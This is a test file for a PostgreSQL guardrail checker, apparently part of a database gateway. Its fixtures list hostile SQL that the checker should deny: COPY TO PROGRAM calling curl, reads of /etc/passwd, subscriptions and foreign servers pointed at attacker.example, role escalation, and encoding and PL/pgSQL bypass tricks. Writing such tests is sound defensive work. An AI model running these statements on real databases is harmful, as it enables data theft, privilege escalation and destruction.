import { beforeAll, describe, expect, it } from 'vitest';
import { checkFunctionCall, GuardrailChecker, loadGuardrailParser } from './guardrails.js';

const checker = new GuardrailChecker();
beforeAll(loadGuardrailParser);

const ALL = ['ddl', 'truncate', 'write_without_where', 'copy_program', 'set_role', 'escape'];
const denied = (sql: string, rails: readonly string[] = ALL, readOnly = false) => {
  const d = checker.check(sql, rails, readOnly);
  return d.allowed ? null : d.guardrail;
};

describe('guardrails', () => {
  it('allows ordinary reads and bounded writes', () => {
    for (const sql of [
      'select 1',
      'select * from t where id = $1',
      'update t set a = 1 where id = 2',
      'delete from t where id in (select id from u)',
      'insert into t values (1)',
      'begin; select 1; commit',
      "copy t to stdout",
      "select set_config('statement_timeout', '5s', false)",
      'explain select * from t',
    ]) {
      expect(denied(sql), sql).toBeNull();
    }
  });

  it('denies each class', () => {
    expect(denied('create table x (a int)')).toBe('ddl');
    expect(denied('drop table t')).toBe('ddl');
    expect(denied('alter table t add column b int')).toBe('ddl');
    expect(denied('revoke all on t from public')).toBe('ddl');
    expect(denied('truncate t')).toBe('truncate');
    expect(denied('update t set a = 1')).toBe('write_without_where');
    expect(denied('delete from t')).toBe('write_without_where');
    expect(denied("copy t to program 'curl evil'")).toBe('copy_program');
    expect(denied("copy t from '/etc/passwd'")).toBe('copy_program');
    expect(denied('set role postgres')).toBe('set_role');
    expect(denied('set session authorization postgres')).toBe('set_role');
    expect(denied("select set_config('role', 'postgres', false)")).toBe('set_role');
    expect(denied('alter role me superuser', ['escape'])).toBe('escape');
    expect(denied("select pg_read_file('/etc/passwd')", ['escape'])).toBe('escape');
    expect(denied("load 'evil'", ['escape'])).toBe('escape');
    expect(denied('insert into t values (1)', ['write'])).toBe('write');
  });

  it('finds denied statements hidden in multi-statement strings, comments and CTEs', () => {
    expect(denied('select 1; drop table t')).toBe('ddl');
    expect(denied('select 1 /* harmless */; -- comment\n delete from t')).toBe('write_without_where');
    expect(denied('/* drop table t */ select 1')).toBeNull();
    expect(denied("select '; drop table t'")).toBeNull();
    expect(denied('with gone as (delete from t returning *) select * from gone')).toBe('write_without_where');
    expect(denied('with x as (select 1) update t set a = 1')).toBe('write_without_where');
    expect(denied('explain analyze delete from t')).toBe('write_without_where');
    expect(denied('prepare p as delete from t')).toBe('write_without_where');
  });

  it('checks the bodies of functions and procedures where they are created (review: pg_temp bodies ran past every guardrail but ddl)', () => {
    const NO_DDL = ['truncate', 'write_without_where', 'set_role', 'escape', 'do_block', 'copy_program'];
    const cases: Array<[string, string | null]> = [
      ["create procedure pg_temp.p() language sql as $$ update t set v = 'clobbered'; $$", 'write_without_where'],
      ['create procedure pg_temp.q() language sql as $$ truncate t $$', 'truncate'],
      ["create function pg_temp.f() returns text language plpgsql as $$ begin perform set_config('role','rg_priv',false); return current_user; end $$", 'set_role'],
      // a PL/pgSQL body is a DO block under another name; its parameters are known to the parser
      ['create function pg_temp.g(a int) returns int language plpgsql as $$ declare x int; begin x := a; return x; end $$', 'do_block'],
      ["create function pg_temp.h() returns void language plpgsql as $$ begin execute 'trunc' || 'ate t'; end $$", 'truncate'],
      ["create function pg_temp.i() returns int language plperl as $$ return 1 $$", 'truncate'],
      // second review: RETURN QUERY EXECUTE and OPEN … FOR EXECUTE are dynamic SQL too
      ['create function pg_temp.dyn(q text) returns setof text language plpgsql as $$ begin return query execute q; end $$', 'truncate'],
      ['create function pg_temp.cur(q text) returns void language plpgsql as $$ declare c refcursor; begin open c for execute q; end $$', 'truncate'],
      ["create function pg_temp.j(int) returns int language sql as 'select $1 + 1'", null],
      ['create function pg_temp.k(int) returns int language sql return $1 + 1', null],
      ['create function pg_temp.l() returns void language sql begin atomic; delete from t; end', 'write_without_where'],
      // nested: a SQL function whose body creates a PL/pgSQL one
      ["create function pg_temp.m() returns void language sql as $b$ create function pg_temp.n() returns void language plpgsql as $$ begin truncate t; end $$ $b$", 'truncate'],
    ];
    for (const [sql, want] of cases) expect(denied(sql, NO_DDL), sql).toBe(want);
    // with do_block allowed, a PL/pgSQL function that only reads is fine
    expect(denied('create function pg_temp.g(a int) returns int language plpgsql as $$ begin return a; end $$', ['truncate', 'set_role'])).toBeNull();
    expect(denied('create function pg_temp.g(a int) returns int language plpgsql as $$ begin update t set v = 1; return a; end $$', ['write_without_where'])).toBe('write_without_where');
    // an undeclared variable cannot be compiled: not checkable, so denied
    expect(denied('create function pg_temp.o() returns int language plpgsql as $$ begin y := 1; return 1; end $$', ['truncate'])).toBe('unparsable');
  });

  it('sees nodes libpg-query writes without their type name (review: SELECT INTO in a UNION, ALTER ROLE|DATABASE SET role)', () => {
    expect(denied('select 1 as a into new_tbl union select 2', ['ddl'])).toBe('ddl');
    expect(denied('select * into temp tmp_copy from t union all select * from t where false', ['write'])).toBe('write');
    expect(denied('explain analyze select 1 as x into new_tbl2 union select 2', ['ddl'])).toBe('ddl');
    expect(denied('select 1 union (select 2 into t2 union select 3)', ['ddl'])).toBe('ddl');
    expect(denied("alter role current_user set role = 'rg_priv'", ['set_role'])).toBe('set_role');
    expect(denied("alter database app set role = 'rg_priv'", ['set_role'])).toBe('set_role');
    expect(denied("alter database app set role = 'rg_priv'", ['escape'])).toBe('escape');
    expect(denied("alter system set session_authorization = 'x'", ['set_role'])).toBe('set_role');
    expect(denied('alter database app set default_transaction_read_only = off', [], true)).toBe('read_only');
    expect(denied("call dblink_exec('x', 'y')", ['escape'])).toBe('escape');
    expect(denied('create table c as select 1', ['write'])).toBe('write');
    // the gateway's own connection check, which ends a statement that ignores the cut-off's cancel
    expect(denied('set client_connection_check_interval = 0', ['escape'])).toBe('escape');
    expect(denied("select set_config('client_connection_check_interval', '0', false)", ['escape'])).toBe('escape');
    expect(denied('reset client_connection_check_interval', ['escape'])).toBeNull();
    // functions that write or signal, called from a SELECT (review)
    expect(denied("select nextval('s')", ['write'])).toBe('write');
    expect(denied("select setval('s', 1)", ['write'])).toBe('write');
    expect(denied('select lo_unlink(16384)', ['write'])).toBe('write');
    expect(denied("select pg_notify('jobs', 'run')", [], true)).toBe('read_only');
    expect(denied("notify jobs, 'run'", [], true)).toBe('read_only');
    expect(denied("notify jobs, 'run'", ['write'])).toBe('write');
    expect(denied('listen jobs', [], true)).toBeNull();
    expect(denied('select pg_cancel_backend(123)', ['escape'])).toBe('escape');
    expect(denied("select * from pg_logical_slot_get_changes('s', null, null)", ['escape'])).toBe('escape');
    expect(denied('select * from pg_ls_logdir()', ['escape'])).toBe('escape');
    expect(denied("select nextval('s')", ['ddl', 'truncate'])).toBeNull();
    // second review: functions made callable without a call in sight
    const NO_DDL = ['write', 'truncate', 'write_without_where', 'copy_program', 'set_role', 'escape'];
    expect(denied('create operator pg_temp.### (leftarg=text, rightarg=text, function=pg_notify)', NO_DDL)).toBe('write');
    expect(denied('create operator pg_temp.%%% (leftarg=regclass, rightarg=bigint, function=setval)', NO_DDL)).toBe('write');
    expect(denied('create operator pg_temp.@@@ (rightarg=integer, function=pg_cancel_backend)', NO_DDL)).toBe('escape');
    expect(denied('create aggregate pg_temp.a(text) (sfunc = textcat, stype = text, finalfunc = pg_catalog.pg_notify)', NO_DDL)).toBe('write');
    expect(denied('create cast (int as text) with function pg_terminate_backend(int)', NO_DDL)).toBe('escape');
    expect(denied("create operator pg_temp.=== (leftarg=text, rightarg=text, function=set_config)", NO_DDL)).toBe('write');
    expect(denied('create operator pg_temp.<~> (leftarg=int, rightarg=int, function=int4pl)', NO_DDL)).toBeNull();
    // a JoinExpr's larg/rarg are ordinary wrapped nodes
    expect(denied('select * from t join u on true', ALL)).toBeNull();
  });

  it('looks inside DO blocks and refuses dynamic SQL it cannot check', () => {
    expect(denied('do $$ begin delete from t; end $$')).toBe('write_without_where');
    expect(denied('do $$ begin perform 1; end $$')).toBeNull();
    expect(denied("do $$ declare n int; begin n := (select count(*) from t); raise notice '%', n; end $$")).toBeNull();
    expect(denied("do $$ begin execute 'drop table t'; end $$")).toBe('ddl');
    expect(denied("do $$ begin perform set_config('role', 'postgres', false); end $$")).toBe('set_role');
    expect(denied("do $$ begin if true then truncate t; end if; end $$")).toBe('truncate');
    expect(denied('do $$ begin perform 1; end $$', ['do_block'])).toBe('do_block');
  });

  it('denies RESET transaction_read_only to a read-only role (PostgreSQL 17 refuses it, older releases did not always), not RESET of the default the gateway set', () => {
    expect(denied('reset transaction_read_only', [], true)).toBe('read_only');
    expect(denied('set transaction_read_only to default', [], true)).toBe('read_only');
    expect(denied('reset default_transaction_read_only', [], true)).toBeNull();
    expect(denied('reset all', [], true)).toBeNull();
    // Turning it on is fine (third review: psycopg's read-only sessions send it, and were denied).
    for (const sql of ['set default_transaction_read_only = on', 'set transaction_read_only = on', "set session default_transaction_read_only to 'true'", 'set default_transaction_read_only to default']) {
      expect(denied(sql, [], true), sql).toBeNull();
    }
    for (const sql of ['set default_transaction_read_only = off', 'set local transaction_read_only = false', "select set_config('transaction_read_only', 'on', false)"]) {
      expect(denied(sql, [], true), sql).toBe('read_only');
    }
  });

  it('keeps a read-only role read-only', () => {
    for (const sql of [
      'set default_transaction_read_only = off',
      'set transaction read write',
      'begin read write',
      'start transaction isolation level serializable, read write',
      'set session characteristics as transaction read write',
      "select set_config('default_transaction_read_only', 'off', false)",
      "select set_config(current_setting('x'), 'off', false)",
    ]) {
      expect(denied(sql, [], true), sql).toBe('read_only');
    }
    expect(denied('begin read only', [], true)).toBeNull();
    expect(denied('reset default_transaction_read_only', [], true)).toBeNull();
  });

  it('sends anything unusual in a SELECT to the parser (no lexical shortcut around it)', () => {
    expect(denied('select * into t2 from items')).toBe('ddl');
    expect(denied("SELECT set_config('role', 'postgres', false)")).toBe('set_role');
    expect(denied('select U&"set\\005fconfig"(\'role\', \'x\', false)')).toBe('set_role');
    expect(denied('select 1; drop table t;')).toBe('ddl');
    expect(denied("select query_to_xml('delete from t', true, true, '')", ['escape'])).toBe('escape');
    expect(denied('select abalance from pgbench_accounts where aid = 42;')).toBeNull();
    expect(denied('select\n  1 ;  ')).toBeNull();
  });

  it('fails closed on text the parser rejects, and allows anything when the role has no guardrails', () => {
    expect(denied('selec 1')).toBe('unparsable');
    expect(checker.check('drop table t', [], false)).toEqual({ allowed: true });
  });

  it('names where the parser stopped, never the text it quotes (a password the sealed sql hides: review 2026-12-02)', () => {
    const d = checker.check("ALTER ROLE app PASSWORD 'hunter2", ALL, false);
    expect(d).toEqual({ allowed: false, guardrail: 'unparsable', reason: 'the statement could not be checked: unterminated quoted string at character 25' });
    const e = checker.check('selec 1', ALL, false);
    expect(e.allowed ? '' : e.reason).toBe('the statement could not be checked: syntax error at character 1');
  });

  it('denies a FunctionCall (a function by OID, not checkable) whenever a guardrail applies or the role is read-only', () => {
    const reason = 'a function called by OID cannot be checked';
    expect(checkFunctionCall([], true)).toEqual({ allowed: false, guardrail: 'read_only', reason });
    expect(checkFunctionCall(['ddl', 'set_role'], true)).toEqual({ allowed: false, guardrail: 'read_only', reason });
    expect(checkFunctionCall(['write_without_where'], false)).toEqual({ allowed: false, guardrail: 'write_without_where', reason });
    expect(checkFunctionCall(['not_a_guardrail', 'escape'], false)).toEqual({ allowed: false, guardrail: 'escape', reason });
    expect(checkFunctionCall([], false)).toEqual({ allowed: true });
  });
});

describe('guardrails: statements that would make the target read SQL differently', () => {
  it('deny changing how the target lexes SQL, for any role that is checked at all', () => {
    for (const sql of [
      'set standard_conforming_strings = off',
      'set session standard_conforming_strings to off',
      'set local standard_conforming_strings = off',
      "set client_encoding = 'SJIS'",
      "set names 'SJIS'",
      "set client_encoding = 'Shift_JIS'",
      "set client_encoding to 'WIN932'",
      'set standard_conforming_strings = 0',
      "select set_config('client_encoding', current_setting('x'), false)",
      "select set_config('standard_conforming_strings', 'off', false)",
      "select set_config('client_encoding', 'BIG5', false)",
      "select set_config(n, 'off', false) from (values ('standard_conforming_strings')) v(n)",
      "update pg_settings set setting = 'off' where name = 'standard_conforming_strings'",
      "update pg_catalog.pg_settings set setting = 'SJIS' where name = 'client_encoding'",
      "select 1; set standard_conforming_strings = off",
      // An allow list since a review on 2026-12-02: EUC_JP reads two byte sequences as one
      // character, and PostgreSQL drops the Kelvin sign from SJ\u212AIS and reads SJIS.
      "set client_encoding = 'EUC_JP'",
      "set names 'LATIN1'",
      "set client_encoding = 'SJ\u212AIS'",
      "set names 'big5\u212A'",
      "select set_config('client_encoding', 'G\u212ABK', false)",
      "select set_config('client_encoding', 'EUC_JP', false)",
      "create function pg_temp.f() returns int language sql set client_encoding = 'EUC_JP' as 'select 1'",
    ]) {
      expect(denied(sql, ['truncate']), sql).toBe('lexing');
      expect(denied(sql, [], true), sql).not.toBeNull(); // read_only where that applies too, else lexing
    }
    // Nothing is checked for a role without guardrails (and nothing could be bypassed).
    expect(denied('set standard_conforming_strings = off', [])).toBeNull();
  });

  it('allow safe values and going back to the session value the gateway checked at login', () => {
    // ActiveRecord and Sequel set standard strings on for every connection; pg_dump scripts set both.
    for (const sql of [
      'reset standard_conforming_strings', 'reset client_encoding', 'reset all', 'set standard_conforming_strings to default', 'set client_encoding to default',
      'set standard_conforming_strings = on', 'set standard_conforming_strings = true', 'set standard_conforming_strings = 1',
      "set client_encoding = 'UTF8'", "set client_encoding to 'utf-8'", "set names 'unicode'", "set client_encoding = 'SQL_ASCII'", "select set_config('standard_conforming_strings', 'on', false)",
      'set backslash_quote = on',
    ]) {
      expect(denied(sql, ALL, true), sql).toBeNull();
    }
  });

  it('treat functions that run SQL given as text like dynamic SQL: every guardrail', () => {
    for (const sql of [
      "select count(*) from ts_stat($q$select to_tsvector(set_config('default_transaction_read_only','off',false))$q$)",
      "select count(*) from ts_stat('select to_tsvector(1)')",
      "select ts_rewrite('a'::tsquery, 'select ''a''::tsquery, ''b''::tsquery')",
      "select query_to_xml('delete from t returning 1', true, true, '')",
      "select * from crosstab('select 1, 2, 3') as ct(a int, b int)",
      "select cron.schedule('* * * * *', 'drop table t')",
      "select schedule('* * * * *', 'drop table t')", // unqualified: may resolve to cron's
    ]) {
      expect(denied(sql, ['write']), sql).toBe('write');
      expect(denied(sql, [], true), sql).toBe('read_only');
    }
    // pg_cron's names are common words: another schema's function of that name is not cron's.
    expect(denied('select * from app.schedule(3)', ['write'])).toBeNull();
  });

  it('reports the settings the target would read SQL differently with', async () => {
    const { lexingHazard } = await import('./guardrails.js');
    expect(lexingHazard('standard_conforming_strings', 'off')).toMatch(/backslashes/);
    expect(lexingHazard('standard_conforming_strings', 'on')).toBeUndefined();
    for (const enc of ['SJIS', 'BIG5', 'GBK', 'UHC', 'GB18030', 'JOHAB', 'SHIFT_JIS_2004', 'sjis', 'EUC_JP', 'LATIN1', 'WIN1252', 'SJ\u212AIS', 'UTF8\u212A', 'ut\u017F8']) {
      expect(lexingHazard('client_encoding', enc), enc).toMatch(/is not UTF8/);
    }
    for (const enc of ['UTF8', 'utf-8', 'Unicode', 'SQL_ASCII', 'sql-ascii']) expect(lexingHazard('client_encoding', enc), enc).toBeUndefined();
    // The database's own encoding, reported at login: statements are converted into it.
    expect(lexingHazard('server_encoding', 'EUC_JP')).toMatch(/is not UTF8/);
    expect(lexingHazard('server_encoding', 'LATIN1')).toMatch(/is not UTF8/);
    for (const enc of ['UTF8', 'SQL_ASCII']) expect(lexingHazard('server_encoding', enc), enc).toBeUndefined();
    expect(lexingHazard('application_name', 'SJIS')).toBeUndefined();
  });
});

describe('guardrails: PL/pgSQL assignment targets (third review)', () => {
  it('checks what an assignment target evaluates, not only its value', () => {
    const doBlock = (target: string) => `do $$ declare a int[]; begin ${target} := 1; end $$`;
    expect(denied(doBlock("a[(select 1 from pg_notify('chan', 'x'))]"), [], true)).toBe('read_only');
    expect(denied(doBlock("a[length(set_config('default_transaction_read_only', 'off', false))]"), [], true)).toBe('read_only');
    expect(denied(doBlock("a[setval('s1', 4242)]"), ['write'])).toBe('write');
    expect(denied(doBlock('a[cast(pg_cancel_backend(pg_backend_pid() + 100000) as int)]'), ['escape'])).toBe('escape');
    // fourth review: an `=` in a comment no longer moves the split
    expect(denied("do $$ declare a int[]; begin a -- = 1 /*\n[setval('s1', 4242)] := 1 -- */\n+ 0; end $$", ['write'])).toBe('write');
    expect(denied("do $$ declare a int[]; begin a -- = 1 /*\n[(select 1 from pg_notify('chan', 'x'))] := 1 -- */\n+ 0; end $$", [], true)).toBe('read_only');
    expect(denied("do $$ declare x int; begin x -- = 1 /*\n := length(set_config('role', 'postgres', false)) -- */\n + 0; end $$", ['set_role'])).toBe('set_role');
    expect(denied("create function pg_temp.f() returns int language plpgsql as $$ declare x int; begin x -- = 1 /*\n := length(set_config('role', 'postgres', false)) -- */\n + 0; return x; end $$", ['set_role'])).toBe('set_role');
    // a cast in a subscript is split right now
    expect(denied('do $$ declare a int[]; i text := 1; begin a[i::int] := 2; end $$', ['write'])).toBeNull();
    expect(denied("do $$ declare a int[]; begin a[(select 1 where 1 = 1 and pg_notify('c', 'x') is null)] := 1; end $$", [], true)).toBe('read_only');
    // ordinary assignments stay allowed
    expect(denied(doBlock('a[2]'), ['write', 'escape'], true)).toBeNull();
    expect(denied('do $$ declare x int; begin x := 1; end $$', ['write', 'escape'], true)).toBeNull();
    expect(denied("create function pg_temp.f() returns int language plpgsql as $$ declare a int[]; begin a[setval('s1', 1)] := 1; return 1; end $$", ['write'])).toBe('write');
  });
});

describe('guardrails: definitions that name functions (third review)', () => {
  const NO_DDL = ['write', 'truncate', 'write_without_where', 'copy_program', 'set_role', 'escape'];
  it('looks only at function positions, so ordinary DDL with columns or types named like functions is not denied', () => {
    for (const sql of [
      'create trigger trg after update of schedule on jobs for each row when (old.schedule is distinct from new.schedule) execute function notify_change()',
      'create type schedule as range (subtype = timestamptz)',
      'create aggregate crosstab(int) (sfunc = int4pl, stype = int)',
      "create trigger t before insert on x for each row execute function f('nextval')",
      'create operator pg_temp.<~> (leftarg = int, rightarg = int, function = int4pl)',
    ]) expect(denied(sql, NO_DDL), sql).toBeNull();
  });
  it('still finds the functions those positions name', () => {
    expect(denied('create operator pg_temp.### (leftarg=text, rightarg=text, function=pg_notify)', NO_DDL)).toBe('write');
    expect(denied("create operator pg_temp.### (leftarg=text, rightarg=text, function='pg_notify')", NO_DDL)).toBe('write');
    expect(denied('create aggregate pg_temp.a(text) (sfunc = textcat, stype = text, finalfunc = pg_catalog.pg_notify)', NO_DDL)).toBe('write');
    expect(denied('create cast (int as text) with function pg_terminate_backend(int)', NO_DDL)).toBe('escape');
    expect(denied('create trigger t after insert on x for each row execute function cron.schedule()', NO_DDL)).toBe('write');
    expect(denied('create operator class c for type int using btree as function 1 pg_catalog.setval(regclass, bigint)', NO_DDL)).toBe('write');
  });
  it('reads every option of a definition as a possible function (review 2026-12-02: the old sfunc1 made set_config an aggregate\'s step)', () => {
    const sfunc1 = "create aggregate pg_temp.sc(text, bool) (sfunc1 = set_config, stype1 = text, initcond1 = 'role')";
    expect(denied(sfunc1, ['set_role'])).toBe('set_role');
    expect(denied(sfunc1, ['escape'])).toBe('escape');
    expect(denied(sfunc1, NO_DDL)).not.toBeNull();
    expect(denied(sfunc1, [], true)).toBe('read_only');
    expect(denied('create aggregate pg_temp.lo(bytea) (sfunc1 = lo_from_bytea, stype1 = oid)', ['write'])).toBe('write');
    // A text search template's functions, which no list of option names had either.
    expect(denied('create text search template pg_temp.t (lexize = pg_notify)', NO_DDL)).toBe('write');
    // Ordinary definitions stay allowed.
    expect(denied('create aggregate pg_temp.s(int) (sfunc1 = int4pl, stype1 = int, initcond1 = 0)', NO_DDL)).toBeNull();
  });
});

describe('guardrails: other roles\' rights, settings and outside connections by other names (review 2026-12-02)', () => {
  const NO_DDL = ['write', 'truncate', 'write_without_where', 'copy_program', 'set_role', 'escape'];
  it('a view of pg_settings is UPDATE pg_settings', () => {
    for (const sql of ['create temp view s as select * from pg_settings', 'create view s as select name, setting from pg_catalog.pg_settings where true']) {
      expect(denied(sql, ['escape']), sql).toBe('escape');
      expect(denied(sql, ['truncate']), sql).toBe('lexing'); // any checked role: it could change how SQL is read
      expect(denied(sql, [], true), sql).not.toBeNull();
    }
    expect(denied('create temp view v as select 1 as one', NO_DDL)).toBeNull();
    // Second review: a view's `_RETURN` rule is its query, so replacing it made any view (before
    // PostgreSQL 16 any table) a view of pg_settings.
    for (const sql of [
      'create or replace rule "_RETURN" as on select to v do instead select * from pg_settings',
      'create rule "_RETURN" as on select to t do instead select * from pg_catalog.pg_settings',
      'create rule r as on update to t do instead select set_config(name, setting, false) from pg_settings',
    ]) {
      expect(denied(sql, ['escape']), sql).toBe('escape');
      expect(denied(sql, ['set_role']), sql).toBe('set_role');
      expect(denied(sql, ['truncate']), sql).toBe('lexing');
    }
    expect(denied('create rule r as on insert to t do also insert into log values (new.id)', ['escape', 'set_role', 'truncate'])).toBeNull();
  });
  it('handing an object to another role is SET ROLE by another name', () => {
    for (const sql of [
      'alter view v owner to hp_priv', 'alter table t owner to hp_priv', 'alter function f() owner to hp_priv',
      'create schema s authorization hp_priv create view v as select * from secrets', 'reassign owned by current_user to hp_priv',
    ]) {
      expect(denied(sql, ['set_role']), sql).toBe('set_role');
      expect(denied(sql, ['escape']), sql).toBe('escape');
    }
    for (const sql of ['alter table t owner to current_user', 'alter function f() owner to session_user', 'create schema s authorization current_role', 'create schema s']) {
      expect(denied(sql, ['set_role']), sql).toBeNull();
    }
  });
  it('the lists: renaming a role, a copied replication slot, outside connections, lo_import, ALTER SEQUENCE RESTART', () => {
    expect(denied('alter role victim rename to other', ['escape'])).toBe('escape');
    expect(denied("select pg_copy_logical_replication_slot('src', 'copied')", ['escape'])).toBe('escape');
    expect(denied("select pg_copy_physical_replication_slot('src', 'copied')", ['escape'])).toBe('escape');
    for (const sql of [
      "create subscription s connection 'host=attacker.example dbname=x' publication p",
      "alter subscription s connection 'host=attacker.example'",
      "create server s foreign data wrapper postgres_fdw options (host 'attacker.example')",
      "alter server s options (set host 'attacker.example')",
      "create user mapping for current_user server s options (user 'x', password 'y')",
    ]) expect(denied(sql, ['escape']), sql).toBe('escape');
    expect(denied("select lo_import('/etc/hostname')", ['write'])).toBe('write');
    expect(denied('alter sequence s restart with 1000', ['write'])).toBe('write');
    expect(denied('alter sequence s increment by 2', ['write'])).toBeNull();
    // An identity column's RESTART is the same (second review).
    expect(denied('alter table ids alter column id restart with 1', ['write'])).toBe('write');
    expect(denied('alter table ids alter column id set generated always restart', ['write'])).toBe('write');
    expect(denied('alter table ids alter column id set generated by default', ['write'])).toBeNull();
    // Third review: ALTER COLUMN … TYPE … USING rewrote every row past write and write_without_where;
    // a cast of the column itself is a type change, as migrations write it.
    expect(denied("alter table items alter column name type text using 'pwned'", ['write'])).toBe('write');
    expect(denied("alter table items alter column name type text using 'pwned'", ['write_without_where'])).toBe('write_without_where');
    expect(denied('alter table items alter column n type int using n * 0', ['write'])).toBe('write');
    for (const sql of ['alter table items alter column n type bigint', 'alter table items alter column n type int using n::int', 'alter table items alter column n type int using (n::text)::int', 'alter table t alter column "n" type int using t.n::integer', 'alter table t alter column n type uuid using n::text::uuid', 'alter table t alter column n type int using cast(n as int)']) {
      expect(denied(sql, ['write', 'write_without_where']), sql).toBeNull();
    }
    // Fourth review: a cast with a modifier, or by way of another type, loses what every row held.
    for (const sql of ['alter table items alter column name type text using name::varchar(1)', 'alter table items alter column n type int using n::boolean::int', 'alter table t alter column ts type timestamptz using ts::date::timestamptz', 'alter table items alter column name type text using name::char(1)::text']) {
      expect(denied(sql, ['write']), sql).toBe('write');
    }
    // and pg_logical_emit_message writes to the WAL, which CDC consumers read as events
    expect(denied("select pg_logical_emit_message(true, 'debezium', 'forged')", ['write'])).toBe('write');
    expect(denied("select pg_logical_emit_message(false, 'x', 'y')", [], true)).toBe('read_only');
    // A new database handed to another role (second review: only ddl).
    expect(denied('create database d2 owner other_role', ['set_role'])).toBe('set_role');
    expect(denied('create database d2', ['set_role'])).toBeNull();
  });
});

describe('guardrails: PL/pgSQL declarations libpg-query does not dump (fifth review)', () => {
  const RAILS = ['write', 'escape', 'set_role', 'truncate', 'write_without_where', 'copy_program'];
  it('refuses a default of a record or an unknown-type variable, which no walk can see', () => {
    for (const sql of [
      "do $$ declare r record := row(setval('s1', 4242), pg_notify('c', 'x')); begin end $$",
      "do $$ declare x mytype := setval('s1', 1); begin end $$",
      "do $$ declare x public.t default setval('s1', 1); begin end $$",
      "do $$ declare x citext = setval('s1', 1); begin end $$",
      "do $$ begin declare r record := row(pg_notify('c', 'x')); begin null; end; end $$",
      "create function pg_temp.f5() returns int language plpgsql as $$ declare r record := row(setval('s1', 777)); begin return 1; end $$",
    ]) expect(denied(sql, RAILS), sql).toBe('write');
    expect(denied("do $$ declare r record := row(set_config('default_transaction_read_only', 'off', false)); begin end $$", [], true)).toBe('read_only');
  });
  it('reads declarations as PL/pgSQL does (sixth review)', () => {
    const long = 'r'.repeat(70);
    for (const sql of [
      "do $$ declare x int := (select 1 as begin); r record := row(setval('s', 5)); begin end $$",
      "do $$ declare x int := (select begin from (select 1) as t(begin)); r record := row(setval('s', 7)); begin end $$",
      "do $$ declare c cursor for select 1 as begin; r record := row(setval('s', 15)); begin end $$",
      "do $$ declare x pg_temp.begin; r record := row(setval('s', 9)); begin end $$",
      `do $$ declare "a""b" record := row(setval('s', 13)); begin end $$`,
      `do $$ declare ${long} record := row(setval('s', 11)); begin end $$`,
      "do $$ declare r pg_temp.declare := setval('s', 19); begin end $$",
      // the same name with a default in two blocks: the dump shows one of them
      "do $$ declare x int := 1; begin declare x record := row(setval('s', 1)); begin null; end; end $$",
    ]) expect(denied(sql, RAILS), sql).toBe('write');
    // no false denials: defaults the dump shows, cursors, aliases, labels, quoted names
    for (const sql of [
      'do $$ declare n int := 0; "Total" numeric default 0; r record; c cursor for select 1 where 1 = 1; begin null; end $$',
      'create function pg_temp.g(a int) returns int language plpgsql as $$ declare b alias for $1; r record; begin return b; end $$',
      'do $$ <<outer>> declare x int := 1; begin declare y int := x; begin null; end; end $$',
    ]) expect(denied(sql, RAILS), sql).toBeNull();
  });

  it('still allows records without a default, and checks assignments to them in the body', () => {
    expect(denied('do $$ declare r record; begin select 1 as a into r; end $$', RAILS)).toBeNull();
    expect(denied("do $$ declare r record; begin r := row(setval('s1', 1)); end $$", RAILS)).toBe('write');
    expect(denied('do $$ declare x int := 1; r record; begin null; end $$', RAILS)).toBeNull();
  });
});
